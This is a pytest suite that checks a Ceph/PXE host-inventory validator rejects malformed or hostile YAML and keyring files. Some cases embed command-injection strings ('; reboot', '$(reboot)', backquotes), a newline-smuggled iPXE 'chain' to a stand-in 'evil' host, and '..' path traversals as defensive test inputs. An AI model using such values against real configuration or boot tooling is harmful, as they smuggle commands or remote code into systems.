"""Malformed and hostile inventories: each fails with a message naming file, key and what was expected, and changes nothing."""
from __future__ import annotations

import shutil
from pathlib import Path
from typing import Callable

import pytest

from conftest import Site, copy_site, PROJECT

Mutation = Callable[[Site], None]


def edit(rel: str, old: str, new: str) -> Mutation:
    return lambda site: site.edit(rel, old, new)


def write(rel: str, text: str) -> Mutation:
    def apply(site: Site) -> None:
        (site.hosts / rel).parent.mkdir(parents=True, exist_ok=True)
        (site.hosts / rel).write_text(text)

    return apply


def chmod(rel: str, mode: int) -> Mutation:
    return lambda site: (site.hosts / rel).chmod(mode)


def remove(rel: str) -> Mutation:
    return lambda site: (site.hosts / rel).unlink()


def both(*ms: Mutation) -> Mutation:
    def apply(site: Site) -> None:
        for m in ms:
            m(site)

    return apply


Z, B, N = "nodes/zephyr.yaml", "nodes/boreas.yaml", "nodes/notus.yaml"
ZMAC = '"52:54:00:a1:00:01"'
CASES: dict[str, tuple[Mutation, list[str]]] = {
    "yaml-syntax": (edit(Z, "uuid:", "uuid: [unclosed"), ["hosts/nodes/zephyr.yaml", "not valid YAML", "line"]),
    "top-level-list": (write(Z, "- just\n- a list\n"), ["hosts/nodes/zephyr.yaml", "expected a mapping"]),
    "unknown-key": (edit(Z, "nics:", "nicz: {}\nnics:"), ["hosts/nodes/zephyr.yaml: nicz: unknown key", "expected one of"]),
    "misspelt-nested-key": (edit(Z, "    address: 192.0.2.21/24", "    adress: 192.0.2.21/24"), ["zephyr.yaml: nics.ceph.adress: unknown key", "nics.ceph.address: missing"]),
    "bad-mac": (edit(Z, ZMAC, '"52:54:00:zz:00:01"'), ["zephyr.yaml: nics.ceph.macs", "'52:54:00:zz:00:01'", "expected a MAC address"]),
    "no-macs": (edit(B, 'macs: ["52:54:00:a2:00:01"]', "macs: []"), ["boreas.yaml: nics.ceph.macs", "at least 1"]),
    "repeated-mac-in-host": (edit(Z, '"52:54:00:a1:00:02"', ZMAC), ["zephyr.yaml: nics.ceph.macs", "no repeated items"]),
    "mac-of-another-host": (edit(B, '"52:54:00:a2:00:01"', ZMAC), ["nics.ceph.macs: MAC 52:54:00:a1:00:01 is already used by host", "boreas.yaml", "zephyr.yaml"]),
    "user-nic-shares-ceph-mac": (edit(Z, '"52:54:00:a1:01:01"', ZMAC), ["zephyr.yaml: nics.user.macs", "shares a MAC"]),
    "uuid-of-another-host": (edit(N, "uuid: 0d6f3e90-6a36-4f0e-b1d7-3c2a9e5f7b44", "uuid: 4c4c4544-0042-3510-8048-b4c04f4a4d32"), ["UUID 4c4c4544-0042-3510-8048-b4c04f4a4d32 is already used by host"]),
    "bad-uuid": (edit(N, "uuid: 0d6f3e90-6a36-4f0e-b1d7-3c2a9e5f7b44", "uuid: not-a-uuid"), ["notus.yaml: uuid", "expected a UUID"]),
    "ip-of-another-host": (edit(B, "192.0.2.22/24", "192.0.2.21/24"), ["nics.ceph.address: IP address 192.0.2.21 is already used by host", "boreas.yaml", "zephyr.yaml"]),
    "address-without-prefix": (edit(B, "192.0.2.22/24", "192.0.2.22"), ["boreas.yaml: nics.ceph.address", "with a prefix"]),
    "network-address": (edit(B, "192.0.2.22/24", "192.0.2.0/24"), ["boreas.yaml: nics.ceph.address", "a host address"]),
    "gateway-with-dhcp": (edit(N, "address: dhcp", "address: dhcp\n    gateway: 192.0.2.1"), ["notus.yaml: nics.ceph.gateway", "only allowed with a static address"]),
    "bad-gateway": (edit(B, "gateway: 192.0.2.1", "gateway: 192.0.2.1; reboot"), ["boreas.yaml: nics.ceph.gateway", "expected an IPv4 address"]),
    "image-of-another-host": (edit(B, "map:", "rbd:\n  namespace: zephyr\nmap:"), ["rbd: RBD image rbd/zephyr/root is already used by host", "hosts/nodes/boreas.yaml", "hosts/nodes/zephyr.yaml"]),
    "client-of-another-host": (both(edit(B, "map:", "client: zephyr\nmap:"), edit(B, "luks:", "keyring: keys/zephyr.keyring\nluks:")), ["client: client zephyr is already used by host"]),
    "unsafe-file-name": (write("nodes/Bad_Name.yaml", "nics: {}\n"), ["hosts/nodes/Bad_Name.yaml", "not a usable host name", "safe as a file name"]),
    "name-mismatch": (edit(N, "uuid:", "name: other\nuuid:"), ["notus.yaml: name: 'other' does not match the file name 'notus'"]),
    "keyring-missing": (remove("keys/notus.keyring"), ["notus.yaml: keyring: 'keys/notus.keyring': file not found"]),
    "keyring-world-readable": (chmod("keys/notus.keyring", 0o644), ["notus.yaml: keyring", "mode 0644 lets group/others read a secret", "chmod 600"]),
    "keyring-group-readable": (chmod("keys/zephyr.keyring", 0o640), ["zephyr.yaml: keyring", "mode 0640"]),
    "keyring-other-client": (write("keys/notus.keyring", "[client.zephyr]\n\tkey = AQBQhgdr+jsFMhAAvvAmFd5c1M0g92SZSfVdGA==\n"), ["notus.yaml: keyring", "expected a [client.notus] section"]),
    "keyring-bad-key": (write("keys/notus.keyring", "[client.notus]\n\tkey = $(reboot)\n"), ["notus.yaml: keyring", "not valid base64"]),
    "kernel-arg-semicolon": (edit(N, "net.ifnames=0", '"net.ifnames=0;reboot"'), ["notus.yaml: kernel_args", "';'", "not allowed"]),
    "kernel-arg-command-substitution": (edit(N, "net.ifnames=0", '"x=$(reboot)"'), ["notus.yaml: kernel_args", "'$'"]),
    "kernel-arg-backquote": (edit(N, "net.ifnames=0", '"x=`reboot`"'), ["notus.yaml: kernel_args", "'`'"]),
    "kernel-arg-newline": (edit(N, "net.ifnames=0", '"a\\nchain http://203.0.113.9/evil"'), ["notus.yaml: kernel_args", "control/space"]),
    "kernel-arg-quote": (edit(N, "net.ifnames=0", "\"a'b\""), ["notus.yaml: kernel_args", "\"'\""]),
    "image-name-with-slash": (edit(B, "map:", "rbd:\n  image: ../root\nmap:"), ["boreas.yaml: rbd.image", "a Ceph name"]),
    "namespace-with-quote": (edit(B, "map:", "rbd:\n  namespace: \"ns'x\"\nmap:"), ["boreas.yaml: rbd.namespace", "a Ceph name"]),
    "map-method": (edit(B, "method: sysfs", "method: nbd"), ["boreas.yaml: map.method", "expected one of: cli, sysfs"]),
    "map-option-injection": (edit("profiles/secure.yaml", "ms_mode=secure", '"ms_mode=secure;reboot"'), ["hosts/profiles/secure.yaml: map.options", "krbd map option"]),
    "deadline-negative": (edit("profiles/rack-a.yaml", "deadline: 180", "deadline: -5"), ["hosts/profiles/rack-a.yaml: map.deadline", "whole number of seconds"]),
    "deadline-string": (edit("site.yaml", "deadline: 120", "deadline: soon"), ["hosts/site.yaml: map.deadline", "whole number"]),
    "missing-profile": (edit(Z, "profiles: [rack-a]", "profiles: [rack-b]"), ["zephyr.yaml: profiles: 'rack-b': no such profile", "rack-a"]),
    "profile-cycle": (both(write("profiles/a.yaml", "profiles: [b]\n"), write("profiles/b.yaml", "profiles: [a]\n"), edit(Z, "profiles: [rack-a]", "profiles: [a]")), ["include cycle: a -> b -> a"]),
    "append-to-non-list": (edit("profiles/rack-a.yaml", "+kernel_args: [quiet]", "+kernel_args: quiet"), ["kernel_args", "appends a list"]),
    "site-fsid-missing": (edit("site.yaml", "  fsid: 8f0c0a52-3c1e-4e8b-9a57-5d0b7f1e2a10\n", ""), ["hosts/site.yaml: ceph.fsid: missing"]),
    "site-mon-host": (edit("site.yaml", "192.0.2.12,", "192.0.2.12:99999,"), ["hosts/site.yaml: ceph.mon_host", "monitor address"]),
    "site-url-injection": (edit("site.yaml", "http://192.0.2.5/boot", "http://192.0.2.5/boot${x}"), ["hosts/site.yaml: pxe.http_base", "URL"]),
    "site-missing": (remove("site.yaml"), ["hosts/site.yaml", "cannot read"]),
    "luks-without-keyfile": (edit(B, "  keyfile: keys/boreas.luks\n", ""), ["boreas.yaml: luks.keyfile: missing"]),
    "luks-key-readable": (chmod("keys/boreas.luks", 0o604), ["boreas.yaml: luks.keyfile", "mode 0604"]),
    "image-root-is-slash": (edit(N, "monolithic: true", "monolithic: true\nimage_root: /"), ["notus.yaml: image_root", "build machine's own root"]),
    "boot-path-escape": (edit(N, "monolithic: true", "monolithic: true\nboot_path: /hosts/../zephyr"), ["notus.yaml: boot_path", "'..'"]),
    "kernel-version-path": (edit(N, "monolithic: true", "monolithic: true\nkernel: ../../etc"), ["notus.yaml: kernel", "kernel version"]),
    "rbd-size": (edit(B, "map:", "rbd:\n  size: 10 GB\nmap:"), ["boreas.yaml: rbd.size", "a size like"]),
    "ceph-nic-missing": (edit(N, "  ceph:\n    macs", "  cepf:\n    macs"), ["notus.yaml: nics.cepf: unknown key", "nics.ceph.macs: missing"]),
}


@pytest.fixture(scope="module")
def a_built_example(tmp_path_factory: pytest.TempPathFactory) -> Site:
    site = copy_site(PROJECT, tmp_path_factory.mktemp("built") / "site")
    site.doit("render", "lint:rendered")
    return site


def test_there_are_at_least_thirty_distinct_cases() -> None:
    assert len(CASES) >= 30


@pytest.mark.parametrize("case", sorted(CASES))
def test_bad_inventory_is_refused_and_changes_nothing(case: str, a_built_example: Site, tmp_path: Path) -> None:
    mutate, fragments = CASES[case]
    shutil.copytree(a_built_example.root, tmp_path / "site", symlinks=True)
    site = Site(tmp_path / "site")
    before = site.snapshot()
    assert before, "the baseline build produced nothing"
    mutate(site)
    run = site.doit(check=False)
    assert run.returncode != 0
    assert not run.ran, f"tasks ran despite the bad inventory: {run.ran}"
    for fragment in fragments:
        assert fragment in run.stderr, f"{fragment!r} not in:\n{run.stderr}"
    assert "Traceback" not in run.stderr
    assert site.snapshot() == before
